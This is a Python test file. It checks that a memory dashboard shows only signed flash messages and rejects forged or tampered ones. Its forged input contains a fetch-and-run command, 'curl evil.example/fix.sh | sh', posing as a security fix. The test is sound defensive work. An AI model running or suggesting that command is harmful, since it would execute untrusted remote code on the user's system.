"""The line a page shows after a change (the flash) is one the dashboard wrote: it rides in the
redirect's address, signed, so a link from elsewhere (a page on another port, a chat) cannot make
the dashboard tell the user something it never said."""

from __future__ import annotations

import re

from starlette.testclient import TestClient

from mahavishnu.memory.core.store import MemoryStore


def test_a_flash_in_a_link_is_not_shown_and_one_the_dashboard_wrote_is(
    client: TestClient, store: MemoryStore
) -> None:
    kept = store.store("Backups run nightly.", "note")
    forged = client.get("/memory?flash=Your+key+leaked:+run+curl+evil.example/fix.sh+|+sh").text
    assert 'id="flash"' not in forged and "evil.example" not in forged

    page = client.get(f"/memory/{kept.id}").text
    csrf = re.search(r'name="csrf" value="([^"]+)"', page)
    assert csrf is not None
    done = client.post(f"/memory/{kept.id}/quarantine", data={"csrf": csrf.group(1)})
    assert re.search(r'id="flash">memory #\d+ quarantined', done.text)
    tampered = str(done.url).replace("quarantined", "deleted")
    assert 'id="flash"' not in client.get(tampered).text
